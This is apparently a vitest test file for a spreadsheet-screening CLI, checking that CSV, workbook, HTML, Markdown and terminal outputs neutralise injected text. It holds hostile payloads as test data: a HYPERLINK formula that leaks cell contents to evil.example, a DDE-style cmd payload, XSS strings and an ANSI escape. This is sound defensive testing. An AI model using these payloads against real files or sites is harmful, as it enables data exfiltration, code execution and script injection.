// Issue 8, part 6: injection.
//  - text that begins with = + - @ (or a tab/CR) written to CSV is neutralised;
//  - cells we write into workbooks are typed strings, never formulas;
//  - notes and HTML (and Markdown) escape what they show.
// End to end through the BUILT command, with hostile text in every field a finding or a list quotes,
// in the sheet name and in the file name.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { beforeAll, describe, expect, it } from 'vitest';
import { validApplicant, type RowInput } from '../helpers/screen-rows.js';
import { buildXlsx, idNumberFor, rosterSheetData } from './build.js';
import { noStackTrace, put, screen, tempDir } from './cli.js';
import { csvFields } from '../helpers/csv-fields.js';

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =1+1'];
const MARKUP = '<img src=x onerror=alert(1)>&amp;<script>alert("x")</script>';

let dir: string;
let out: string;
let status: number | null;
let stdout: string;

beforeAll(() => {
  dir = tempDir();
  out = path.join(dir, 'out');
  const rows: RowInput[] = PAYLOADS.map((p, i) => ({
    ...validApplicant,
    name: `${p}`,
    idNumber: idNumberFor(700 + i),
    birthDate: '1970-' + String(1 + ((700 + i) % 12)).padStart(2, '0'),
    // Findings quote these two (social-insurance mismatch), so they reach every output.
    unit: i % 2 ? MARKUP : `${p}公司`,
    insuranceUnit: i % 2 ? `${p}` : MARKUP,
    specialty: i === 0 ? MARKUP : validApplicant.specialty,
    achievements: p,
  }));
  // One more, failing so the terminal lists them: a name holding an ANSI escape (ESC written the
  // OOXML way, _x001B_): "clear the screen, then print in red".
  rows.push({ ...validApplicant, name: 'ESC_x001B_[2J_x001B_[31m伪造', idNumber: idNumberFor(799), birthDate: '1970-' + String(1 + (799 % 12)).padStart(2, '0'), cpd2022: 72 });
  const bytes = buildXlsx({ sheets: [{ name: '=1+1', rows: rosterSheetData({ rows }).xml }] });
  // A file name that itself starts with "=" (run from its folder, so the CSV's file column starts with it).
  const file = put(dir, '=cmd.xlsx', bytes);
  const r = screen([path.basename(file)], ['--out-dir', out, '--include-review'], { cwd: dir });
  status = r.status;
  stdout = r.stdout;
  noStackTrace(r.stderr);
});

describe('CSV', () => {
  it('the run completes', () => {
    expect(status).toBe(1);
  });

  it('findings.csv: no field starts with = + - @, tab or CR (after spaces) unless neutralised with \'', () => {
    const rows = csvFields(readFileSync(path.join(out, 'findings.csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(rows.length).toBeGreaterThan(PAYLOADS.length);
    const dangerous = rows.flat().filter((f) => /^(?:[\t\r]| *[=+\-@])/.test(f));
    expect(dangerous).toEqual([]);
    // The payloads are there, neutralised, not dropped.
    const fields = rows.flat();
    expect(fields).toContain("'=cmd.xlsx");
    expect(fields).toContain("'=1+1"); // the sheet name
    expect(fields.some((f) => f.startsWith('\'=HYPERLINK('))).toBe(true);
    expect(fields.some((f) => f.startsWith("'@SUM("))).toBe(true);
  });
});

describe('workbooks we write hold strings, never formulas', () => {
  const parts = (file: string): Record<string, string> =>
    Object.fromEntries(Object.entries(unzipSync(readFileSync(file))).filter(([n]) => n.endsWith('.xml') || n.endsWith('.vml')).map(([n, b]) => [n, strFromU8(b)]));

  it.each(['推荐名单.xlsx', '退回清单.xlsx'])('%s: no <f> anywhere; hostile text is a string cell', (name) => {
    const p = parts(path.join(out, name));
    for (const [part, xml] of Object.entries(p)) expect(/<(?:\w+:)?f[\s>]/.test(xml), `${name} ${part}`).toBe(false);
    const sheets = Object.entries(p).filter(([n]) => /worksheets\/sheet\d+\.xml$/.test(n));
    // Cells whose value is a number or boolean cannot carry the payload; text cells are t="s"/"str"/"inlineStr".
    for (const [part, xml] of sheets) for (const m of xml.matchAll(/<c\b[^>]*>/g)) expect(m[0], `${name} ${part}`).not.toMatch(/t="e"/);
  });

  it('the annotated copy: the user formulas stay theirs, we add none; our cells are inline strings', () => {
    const before = parts(path.join(dir, '=cmd.xlsx'));
    const after = parts(path.join(out, '=cmd.screened.xlsx'));
    const count = (p: Record<string, string>): number => Object.values(p).reduce((n, x) => n + (x.match(/<(?:\w+:)?f[\s>]/g)?.length ?? 0), 0);
    expect(count(after)).toBe(count(before));
    const sheet = after['xl/worksheets/sheet1.xml']!;
    // Our two columns are the last two of the header: every cell in them is an inline string.
    const ours = [...sheet.matchAll(/<c r="(AG|AH)\d+"[^>]*>/g)];
    expect(ours.length).toBeGreaterThan(PAYLOADS.length);
    for (const m of ours) expect(m[0]).toMatch(/t="inlineStr"/);
    // Our summary sheets: no formulas, no error cells.
    for (const [name, xml] of Object.entries(after)) {
      if (!before[name]) expect(/<(?:\w+:)?f[\s>]/.test(xml), name).toBe(false);
    }
  });
});

describe('notes, HTML and Markdown escape what they show', () => {
  it('every XML part of the annotated copy is well-formed (notes quote the hostile text)', () => {
    const files = unzipSync(readFileSync(path.join(out, '=cmd.screened.xlsx')));
    const comments = Object.keys(files).filter((n) => /comments\d*\.xml$/.test(n));
    expect(comments.length).toBeGreaterThan(0);
    for (const [name, bytes] of Object.entries(files)) {
      if (!name.endsWith('.xml') && !name.endsWith('.rels')) continue;
      const parser = new SaxesParser();
      let text = '';
      parser.on('text', (t) => (text += t));
      expect(() => parser.write(strFromU8(bytes)).close(), name).not.toThrow();
      if (comments.includes(name)) expect(text).toContain(MARKUP);
    }
  });

  it('预审报告.html: the payload appears only escaped', () => {
    const html = readFileSync(path.join(out, '预审报告.html'), 'utf8');
    expect(html).not.toContain('<img src=x');
    expect(html).not.toMatch(/<script>alert/);
    expect(html).not.toContain('onerror=alert(1)>');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    // No script element at all (the report carries none of its own).
    expect(html).not.toMatch(/<script\b/i);
  });

  it('summary.md: no raw HTML from the data (a < of the data is written \\<)', () => {
    const md = readFileSync(path.join(out, 'summary.md'), 'utf8');
    expect(md).toContain('\\<img src=x');
    expect(md).not.toMatch(/(?<!\\)<(?:img|script)/);
  });

  // Regression (was a bug, fixed): format/terminal.ts prints cell text as is; an ESC in a cell (written _x001B_ in
  // the file) reaches the user's terminal and can clear it, recolour it or fake lines.
  it('the terminal: no control characters from the data reach it (ANSI escape injection)', () => {
    expect(stdout).toContain('伪造');
    expect(stdout).not.toMatch(/\x1b/);
  });
});
